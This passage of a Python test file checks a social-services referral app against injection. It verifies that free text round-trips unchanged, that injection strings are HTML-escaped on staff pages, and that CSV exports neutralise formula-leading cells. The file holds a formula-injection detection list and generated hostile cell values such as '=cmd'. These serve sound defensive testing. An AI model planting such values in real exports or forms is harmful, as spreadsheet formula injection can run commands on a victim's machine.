    acting: list[Actor | None],
    unlimited: None,
    world: World,
) -> None:
    """Free text takes any string and gives it back unchanged (names lose only surrounding
    whitespace); the staff pages that show it (the network on the front page, the e-mail
    echoed by the sign-in form) escape it, and no template syntax in it is evaluated."""
    w = world
    people = w.people
    mismatches: list[str] = []

    def same(where: str, sent: str, stored: Any, *, trimmed: bool = False) -> None:
        if stored != sent and not (trimmed and stored == sent.strip()):
            mismatches.append(f"{where}: sent {sent!r}, stored {stored!r}")

    agencies = {}
    for index, (label, value) in enumerate(STORED_TEXT.items()):
        acting[0] = people["hub_admin"].actor()
        name = f"{value} {index}"  # agency names are unique; the hostile part stays in front
        created = client.post(
            "/api/v1/agencies",
            json={"name": name, "kind": "shelter", "city": value[:120], "region": value[:120]},
        )
        assert created.status_code == 201, (label, created.get_data(as_text=True))
        agencies[label] = json_of(created)["id"]
        shown = read(client, f"/api/v1/agencies/{json_of(created)['id']}")
        same(f"{label}: agency name", name, shown["name"], trimmed=True)
        same(f"{label}: agency city", value[:120], shown["city"])
        same(f"{label}: agency region", value[:120], shown["region"])

        acting[0] = people["provider"].actor()
        text_fields = {
            "description": value,
            "hours": value[:300],
            "service_area": value[:300],
            "eligibility": {"notes": value},
            "location": {"name": value, "city": value, "address": {"street": value}},
        }
        service = client.post(
            "/api/v1/services",
            json={"name": f"{value} {index}", "category": "emergency_shelter", **text_fields},
        )
        assert service.status_code == 201, (label, service.get_data(as_text=True))
        shown = read(client, f"/api/v1/services/{json_of(service)['id']}")
        same(f"{label}: service description", value, shown["description"])
        same(f"{label}: service hours", value[:300], shown["hours"])
        same(f"{label}: service area", value[:300], shown["service_area"])
        same(f"{label}: eligibility notes", value, shown["eligibility"]["notes"])
        same(f"{label}: location name", value, shown["location"]["name"])
        same(f"{label}: location city", value, shown["location"]["city"])
        same(f"{label}: street", value, shown["location"]["address"]["street"])
        put = client.put(
            f"/api/v1/services/{json_of(service)['id']}/capacity",
            json={"total": 2, "available": 1, "note": value},
        )
        assert put.status_code == 200, put.get_data(as_text=True)
        history = read(client, f"/api/v1/services/{json_of(service)['id']}/capacity/history")
        same(f"{label}: capacity note", value, history["items"][0]["note"])

        acting[0] = people["intake"].actor()
        pii = {k: value for k in ("name", "contact", "narrative", "immigration", "health")}
        record = client.post("/api/v1/clients", json={"pii": pii})
        assert record.status_code == 201, record.get_data(as_text=True)
        shown = read(client, f"/api/v1/clients/{json_of(record)['id']}")
        for key, sent in pii.items():
            same(f"{label}: pii {key}", sent, shown["pii"].get(key))
        consent = client.post(
            f"/api/v1/clients/{json_of(record)['id']}/consents",
            json={**consent_body(w), "signer_authority": value, "form_version": value[:40]},
        )
        assert consent.status_code == 201, consent.get_data(as_text=True)
        listed = read(client, f"/api/v1/clients/{json_of(record)['id']}/consents")
        same(f"{label}: signer authority", value, listed[0]["signer_authority"])
        same(f"{label}: form version", value[:40], listed[0]["form_version"])

        acting[0] = people["receiver"].actor()
        message = client.post(f"/api/v1/referrals/{w.own_referral}/messages", json={"body": value})
        assert message.status_code == 201, message.get_data(as_text=True)
        bodies = [m["body"] for m in read(client, f"/api/v1/referrals/{w.own_referral}/messages")]
        same(f"{label}: message", value, bodies[-1])

        acting[0] = people["admin"].actor()
        system = client.post(
            f"/api/v1/agencies/{w.own}/api-clients",
            json={"name": f"{value} {index}"[:120], "scopes": ["directory:read"]},
        )
        assert system.status_code == 201, system.get_data(as_text=True)
        same(
            f"{label}: api client name",
            f"{value} {index}"[:120],
            json_of(system)["name"],
            trimmed=True,
        )
        person = client.post(
            f"/api/v1/agencies/{w.own}/users",
            json={"email": f"p{index}@agency.example", "display_name": value, "roles": ["intake"]},
        )
        assert person.status_code == 201, person.get_data(as_text=True)
        same(f"{label}: display name", value, json_of(person)["display_name"], trimmed=True)
    assert not mismatches, "\n".join(mismatches)

    acting[0] = None
    page = client.get("/?overview=1").get_data(as_text=True)
    http = app.test_client()
    form_page = http.get("/login").get_data(as_text=True)
    unescaped = []
    for label, value in INJECTION.items():
        for where, text, shown in (
            ("front page", page, value.strip()),
            ("sign-in echo", None, value),
        ):
            if text is None:
                text = http.post(
                    "/login",
                    data={
                        "email": shown,
                        "password": "wrong",
                        "csrf_token": factories.csrf_from(form_page),
                    },
                ).get_data(as_text=True)
            if str(escape(shown)) not in text:
                unescaped.append(f"{where}: {label} not shown escaped")
            if any(c in shown for c in "<>\"'&") and shown in text:
                unescaped.append(f"{where}: {label} shown raw")
    assert not unescaped, "\n".join(unescaped)


# --- CSV exports ----------------------------------------------------------------------------

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_LEADS)
    ]


def test_csv_cells_that_would_run_as_formulas_are_neutralised() -> None:
    from referral_hub.core.csvout import cell, csv_text

    for lead in FORMULA_LEADS:
        assert cell(f"{lead}1+1").startswith("'"), lead
    hostile = [*INJECTION.values(), *(f"{lead}cmd" for lead in FORMULA_LEADS)]
    text = csv_text(["a", "b"], [{"a": value, "b": [value, "x"]} for value in hostile])
    assert not formula_cells(text)
    # and nothing else is touched
    assert cell("Harbor Light") == "Harbor Light"
    assert cell(None) == ""
    assert cell(3) == "3"


def test_csv_exports_neutralise_hostile_names_and_ids(
    app: Flask,
    client: FlaskClient,
    session: Any,
    acting: list[Actor | None],
    unlimited: None,
    world: World,
) -> None:
    """The handoff report and the in-limbo queue (both shapes) name receiving agencies; the
    disclosure list names who read."""
    from referral_hub.clients.service import create_client
    from referral_hub.referrals import service as referrals

    w = world
    intake = w.people["intake"].actor()
    formulas = [v for v in INJECTION.values() if v.startswith(FORMULA_LEADS)]
    assert len(formulas) >= 6
    with transaction():
        for index, value in enumerate(formulas):
            agency = factories.agency(name=f"{value} {index}")
            service = factories.directory_service(agency, "case_management")
            person = create_client(intake, profile={"language": "en"})
            sent = referrals.send_referral(
                intake,
                client_id=person.id,
                service_id=service.id,
                urgency=Urgency.ROUTINE,
                data_categories=["profile"],
            )
            sent.acknowledge_by = sent.created_at - timedelta(hours=1)  # in the limbo queue
    db.session.remove()
    acting[0] = Actor(
        ActorKind.USER, w.people["admin"].user_id, uuid.UUID(w.own), frozenset({"coordinator"})
    )
    report = client.get("/api/v1/reports/handoffs?format=csv")
    assert report.status_code == 200, report.get_data(as_text=True)
    text = report.get_data(as_text=True)
    for index, value in enumerate(formulas):
        assert f"'{value.strip()} {index}".replace('"', '""') in text, value
    assert not formula_cells(text), formula_cells(text)
    for path in ("/api/v1/reports/in-limbo", "/api/v1/reports/in-limbo/referrals"):
        queue = client.get(path, query_string={"format": "csv", "limit": 200})
        assert queue.status_code == 200, queue.get_data(as_text=True)
        text = queue.get_data(as_text=True)
        for index, value in enumerate(formulas):  # the receiving agency, named in each row
            assert f"'{value.strip()} {index}".replace('"', '""') in text, (path, value)
        assert not formula_cells(text), formula_cells(text)

    for value in formulas:  # readers whose ids look like formulas (ids are the hub's own)
        acting[0] = Actor(ActorKind.USER, value[:64], uuid.UUID(w.own), frozenset({"intake"}))
        assert client.get(f"/api/v1/clients/{w.own_client}").status_code == 200
    acting[0] = w.people["intake"].actor()
    disclosures = client.get(f"/api/v1/clients/{w.own_client}/disclosures?format=csv")
    assert disclosures.status_code == 200, disclosures.get_data(as_text=True)
    text = disclosures.get_data(as_text=True)
    assert any(f"'{value[:64]}" in text for value in formulas), text[:500]
    assert not formula_cells(text), formula_cells(text)


# --- the runner sees what it is meant to see ---------------------------------------------------


def test_the_runner_catches_a_refusal_that_wrote(
    app: Flask,
    client: FlaskClient,
    session: Any,
    acting: list[Actor | None],
    unlimited: None,
    world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A refused request that leaves a row behind (here in the key store, which commits on
    its own) is named with the table it changed; a 500 and a non-problem error are named."""
    from referral_hub.agencies import service as agencies
    from referral_hub.core import keystore
    from referral_hub.core.errors import ValidationFailed

    def leaky(*args: Any, **kwargs: Any) -> Any:
        keystore.put(uuid.uuid4(), b"leaked", "k1")
        raise ValidationFailed(errors={"name": ["Refused after writing."]})

    w = world
    runner = Runner(app, {"plain": client}, w.people["hub_admin"].actor(), {}, "api", acting)
    valid = dumps({"name": "Harbor Light", "kind": "shelter"})
    good = Case("a refusal", "self-check", "POST", "/api/v1/agencies", valid, names="name")
    monkeypatch.setattr(agencies, "create_agency", leaky)
    runner.run([good] * 3)
    assert any("keys.client_key rows" in failure for failure in runner.failures), runner.failures
    assert len(runner.failures) == 3, runner.failures

    runner.failures.clear()
    monkeypatch.setattr(agencies, "create_agency", lambda *a, **k: 1 / 0)
    runner.run([good])
    assert runner.failures == ["[self-check] a refusal: 500"], runner.failures
